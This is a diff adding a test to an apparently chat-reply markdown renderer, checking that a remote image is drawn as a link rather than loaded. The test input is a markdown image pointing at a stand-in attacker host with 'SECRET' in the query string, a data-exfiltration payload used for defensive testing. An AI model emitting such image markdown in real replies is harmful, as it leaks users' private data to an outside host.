@@ -135,6 +135,12 @@ describe('XML and HTML in a reply', () => {
   });
 });
 
+it('draws a remote image as a link', () => {
+  const drawn = draw('![a chart](https://evil.test/?q=SECRET)');
+  expect(textsOf(drawn, 'a[href="https://evil.test/?q=SECRET"]')).toEqual(['a chart']);
+  expect(drawn.querySelector('img')).toBeNull();
+});
+
 describe('Chinese, Japanese and Korean in a reply', () => {
   it.each([
     ['**强调（重点）**文字', '强调（重点）'],
